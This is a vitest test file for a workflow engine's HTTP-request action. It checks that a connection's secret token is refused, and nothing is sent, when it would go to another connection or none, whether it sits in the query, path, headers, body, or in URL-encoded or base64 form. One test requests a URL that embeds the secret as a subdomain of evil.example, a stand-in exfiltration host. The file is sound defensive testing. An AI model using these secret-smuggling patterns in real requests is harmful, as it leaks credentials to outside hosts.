// A request that would carry the secret of a connection to anybody else is refused before it is sent.
import { describe, expect, it } from 'vitest'
import { planOf } from '../../../testing/plans.ts'
import { json } from '../../../testing/servers.ts'
import { createWorkspaces } from '../../../testing/workspaces.ts'

const { workspace, playing } = createWorkspaces()

const SECRET = 'tok+en/0123456789'
const WARNED = 'elastic-pin'

/** Two connections, `edr` with the secret and `chat` with a short one; a run with what `call` says. */
async function run(call: string, connection: string | undefined, secret = SECRET) {
  const server = await playing((response) => json(response, {}))
  const host = await workspace().open()
  const settings = { baseUrl: server.url, allowPrivate: true, auth: 'bearer' }
  await host.connections.add({ name: 'edr', kind: 'http', settings, secrets: { token: SECRET } })
  await host.connections.add({ name: 'chat', kind: 'http', settings, secrets: { token: WARNED } })
  const through = connection === undefined ? 'allowPrivate: true' : `connection: ${connection}`
  const where = connection === undefined ? server.url : ''
  const plan = planOf(`firebreak: 2
name: Test
connections: { edr: http, chat: http }
nodes:
  start: { type: trigger/alert, next: tell }
  tell: { type: action/http-request, timeout: 30s, idempotent: natural, with: { ${through}, ${call.replaceAll('URL', where)} } }
`)
  const alert = { s: secret, encoded: encodeURIComponent(secret), base64: Buffer.from(`x${secret}`).toString('base64') }
  const { settled } = await host.runs.start(plan, alert, { mode: 'live', by: 'ana' })
  return { ...(await settled), received: server.received }
}

describe.each([
  ['another connection', 'chat'],
  ['no connection', undefined],
])('a secret that would go through %s', (_, connection) => {
  it.each([
    ['in the query', 'method: POST, url: URL/x, query: { q: "${alert.s}" }'],
    ['in the path', 'method: POST, url: "URL/x/${alert.s}"'],
    ['in a header', 'method: POST, url: URL/x, headers: { x-note: "Token ${alert.s}" }'],
    ['in the body', 'method: POST, url: URL/x, json: { text: "see ${alert.s}." }'],
    ['in the name of a field', 'method: POST, url: URL/x, json: "${ {alert.s: 1} }"'],
    ['in a form', 'method: POST, url: URL/x, form: { text: "${alert.s}" }'],
    ['in a text', 'method: POST, url: URL/x, text: "${alert.s}"'],
    ['encoded', 'method: POST, url: URL/x, json: { text: "${alert.encoded}" }'],
    ['in base64', 'method: POST, url: URL/x, json: { text: "${alert.base64}" }'],
  ])('%s is refused, and nothing is sent', async (_, call) => {
    const { status, state, received } = await run(call, connection)
    expect([status, received]).toEqual(['failed', []])
    expect(state.error).toMatchObject({ node: 'tell', code: 'secret/would-leave', retryable: false })
    expect(state.error?.message).toContain('the secret token of the connection edr')
    expect(state.error?.message).not.toContain(SECRET)
  })
})

it('goes to its own connection, in its body too', async () => {
  const { status, received } = await run('method: POST, url: URL/x, json: { text: "${alert.s}" }', 'edr')
  expect([status, received.map(({ body }) => body.toString())]).toEqual([
    'completed',
    [JSON.stringify({ text: SECRET })],
  ])
})

it('a short one cannot be told from ordinary text, and is sent', async () => {
  const { status, received } = await run('method: POST, url: URL/x, json: { text: "${alert.s}" }', 'edr', WARNED)
  expect([status, received.map(({ body }) => body.toString())]).toEqual([
    'completed',
    [JSON.stringify({ text: WARNED })],
  ])
})

it('in the name of a host it is refused before the name is asked for', async () => {
  const host = await workspace().open()
  const settings = { baseUrl: 'https://edr.example', auth: 'bearer' }
  await host.connections.add({ name: 'edr', kind: 'http', settings, secrets: { token: 'TokenABCdef0123' } })
  const plan = planOf(`firebreak: 2
name: Test
nodes:
  start: { type: trigger/alert, next: tell }
  tell: { type: action/http-request, timeout: 30s, with: { method: GET, url: "https://\${alert.s}.evil.example/x" } }
`)
  const { settled } = await host.runs.start(plan, { s: 'TokenABCdef0123' }, { mode: 'live', by: 'ana' })
  expect((await settled).state.error).toMatchObject({ node: 'tell', code: 'secret/would-leave' })
})
